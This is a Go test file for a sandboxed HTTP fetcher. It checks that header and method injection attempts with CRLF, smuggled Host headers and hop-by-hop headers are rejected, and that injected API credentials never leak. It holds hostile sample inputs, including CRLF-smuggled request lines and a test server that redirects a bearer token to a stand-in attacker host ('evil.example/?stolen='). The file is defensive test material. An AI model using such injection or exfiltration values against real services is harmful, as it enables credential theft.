package fetch_test

import (
	"context"
	"errors"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/bulkhead-mcp/bulkhead/internal/sandbox/fetch"
	"github.com/bulkhead-mcp/bulkhead/sdk/abi"
)

func TestMalformedRequestsAreInvalid(t *testing.T) {
	w := newWorld()
	w.serve(t, "https://api.example.com", func(http.ResponseWriter, *http.Request) { t.Error("a request was sent") })
	g := grants(t, "https://api.example.com")
	g[0].Credential = secret("X-Api-Key", "s3cr3t")
	f := w.fetcher(t, fetch.Config{Grants: g, Limits: fetch.Limits{RequestBody: 10}})
	with := func(name string, values ...string) abi.HTTPRequest {
		return abi.HTTPRequest{Headers: map[string][]string{name: values}}
	}
	many := abi.HTTPRequest{Headers: map[string][]string{}}
	for i := range 101 {
		many.Headers["X-"+strconv.Itoa(i)] = []string{""}
	}
	for name, c := range map[string]struct {
		request abi.HTTPRequest
		want    string
	}{
		"Host":                            {with("Host", "other.example.com"), "belongs to the connection"},
		"Host in lower case":              {with("host", "other.example.com"), "belongs to the connection"},
		"Connection":                      {with("connection", "X-Api-Key"), "belongs to the connection"},
		"Content-Length":                  {with("CONTENT-LENGTH", "5"), "belongs to the connection"},
		"Transfer-Encoding":               {with("Transfer-Encoding", "chunked"), "belongs to the connection"},
		"Upgrade":                         {with("Upgrade", "websocket"), "belongs to the connection"},
		"Proxy-Authorization":             {with("proxy-authorization", "x"), "belongs to the connection"},
		"any Proxy- header":               {with("Proxy-Something", "x"), "belongs to the connection"},
		"TE":                              {with("TE", "trailers"), "belongs to the connection"},
		"Trailer":                         {with("Trailer", "X"), "belongs to the connection"},
		"Expect":                          {with("Expect", "100-continue"), "belongs to the connection"},
		"Keep-Alive":                      {with("Keep-Alive", "1"), "belongs to the connection"},
		"HTTP2-Settings":                  {with("HTTP2-Settings", "x"), "belongs to the connection"},
		"a header that a credential sets": {with("x-api-key", "mine"), "the host sets the header X-Api-Key for https://api.example.com"},
		"the same without a value":        {with("X-Api-Key", ""), "the host sets the header"},
		"a name with a blank":             {with("Transfer-Encoding ", "chunked"), "a header's name"},
		"a name with a colon":             {with("X:Host", "x"), "a header's name"},
		"a name with a line break":        {with("X\r\nHost", "x"), "a header's name"},
		"a pseudo-header of HTTP/2":       {with(":authority", "x"), "a header's name"},
		"a name outside of ASCII":         {with("Hoſt", "x"), "a header's name"},
		"an empty name":                   {with("", "x"), "a header's name"},
		"a value with a line break":       {with("X-A", "a\r\nHost: b"), "control character"},
		"a value with a bare LF":          {with("X-A", "a\nb"), "control character"},
		"a value with NUL":                {with("X-A", "a\x00b"), "control character"},
		"too many headers":                {many, "headers is 101"},
		"too large headers":               {with("X-A", strings.Repeat("a", 33<<10)), "at most 100 headers and 32768 bytes"},
		"CONNECT":                         {abi.HTTPRequest{Method: "CONNECT"}, "the method"},
		"TRACE":                           {abi.HTTPRequest{Method: "TRACE"}, "the method"},
		"a method in lower case":          {abi.HTTPRequest{Method: "get"}, "the method"},
		"a method with a line break":      {abi.HTTPRequest{Method: "GET / HTTP/1.1\r\nHost: x\r\n\r\nGET"}, "the method"},
		"a body that is too large":        {abi.HTTPRequest{Body: make([]byte, 11)}, "the body has 11 bytes; the limit is 10"},
		"another redirect mode":           {abi.HTTPRequest{Redirect: "error"}, "redirect must be"},
		"a negative time":                 {abi.HTTPRequest{TimeoutMS: -1}, "timeout_ms is negative"},
	} {
		t.Run(name, func(t *testing.T) {
			c.request.URL = "https://api.example.com/"
			_, err := f.Fetch(t.Context(), c.request)
			if code(err) != abi.HostInvalid || !strings.Contains(err.Error(), c.want) {
				t.Errorf("got the error %v, want %q in it", err, c.want)
			}
		})
	}
}

func TestCredentialIsAddedAndNotDisclosed(t *testing.T) {
	const hidden = "s3cr3t-t0ken"
	w := newWorld()
	got := ""
	w.serve(t, "https://api.example.com", func(rw http.ResponseWriter, r *http.Request) {
		got = r.Header.Get("Authorization")
		switch r.URL.Path {
		case "/redirect":
			to(http.StatusFound, "https://evil.example/?stolen="+got)(rw, r)
		case "/garbage":
			conn, buffer, _ := http.NewResponseController(rw).Hijack()
			_, _ = buffer.WriteString("NOT HTTP " + got + "\r\n\r\n")
			_ = buffer.Flush()
			conn.Close()
		case "/length":
			rw.Header().Set("Content-Length", "100")
			_, _ = rw.Write([]byte(got))
			panic(http.ErrAbortHandler)
		}
	})
	w.names["down.example.com"] = []string{"93.184.216.99"}
	g := grants(t, "https://api.example.com", "https://down.example.com")
	for i := range g {
		g[i].Credential = secret("Authorization", "Bearer "+hidden)
	}
	f := w.fetcher(t, fetch.Config{Grants: g})
	for url, want := range map[string]string{
		"https://api.example.com/ok":            "",
		"https://api.example.com/redirect":      abi.HostDenied,
		"https://api.example.com/garbage":       abi.HostFailed,
		"https://api.example.com/length":        abi.HostFailed,
		"https://down.example.com/?key=my-own":  abi.HostFailed,
		"https://other.example.com/?key=my-own": abi.HostDenied,
		"https://a:my-own@api.example.com/":     abi.HostInvalid,
	} {
		got = "Bearer " + hidden
		response, err := f.Fetch(t.Context(), abi.HTTPRequest{URL: url})
		if code(err) != want || got != "Bearer "+hidden {
			t.Errorf("%s: got the error %v, want the code %q; the server received the credential %q", url, err, want, got)
		}
		if err != nil && (strings.Contains(err.Error(), hidden) || strings.Contains(err.Error(), "my-own")) || len(response.Headers["authorization"]) > 0 {
			t.Errorf("%s: the error %v or the headers %v contain a secret", url, err, response.Headers)
		}
	}
	for _, record := range w.records {
		if strings.Contains(record.Target, hidden) || strings.ContainsAny(record.Target, "?@") {
			t.Errorf("the record contains a secret: %+v", record)
		}
	}
	if text := w.log.String(); strings.Contains(text, hidden) || strings.Contains(text, "my-own") || !strings.Contains(text, "http: denied") || !strings.Contains(text, "granted=") {
		t.Errorf("the log contains a secret, or reports no refusal: %s", text)
	}
}

func TestUnusableCredentialFailsRequest(t *testing.T) {
	for name, value := range map[string]func(context.Context) (string, error){
		"unreadable":        func(context.Context) (string, error) { return "", errors.New("open token: no such file") },
		"empty":             func(context.Context) (string, error) { return "", nil },
		"with a line break": func(context.Context) (string, error) { return "s3cr3t\r\nHost: x", nil },
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld()
			w.serve(t, "https://api.example.com", func(http.ResponseWriter, *http.Request) { t.Error("a request was sent") })
			g := grants(t, "https://api.example.com")
			g[0].Credential = &fetch.Credential{Header: "Authorization", Value: value}
			f := w.fetcher(t, fetch.Config{Grants: g})
			_, err := f.Fetch(t.Context(), abi.HTTPRequest{URL: "https://api.example.com/"})
			if code(err) != abi.HostFailed || !strings.Contains(err.Error(), "the credential for https://api.example.com") || strings.Contains(err.Error()+w.log.String(), "s3cr3t") {
				t.Errorf("got the error %v; the log: %s", err, w.log.String())
			}
			if !strings.Contains(w.log.String(), "http: the credential ") {
				t.Errorf("the log does not report the credential: %s", w.log.String())
			}
		})
	}
}
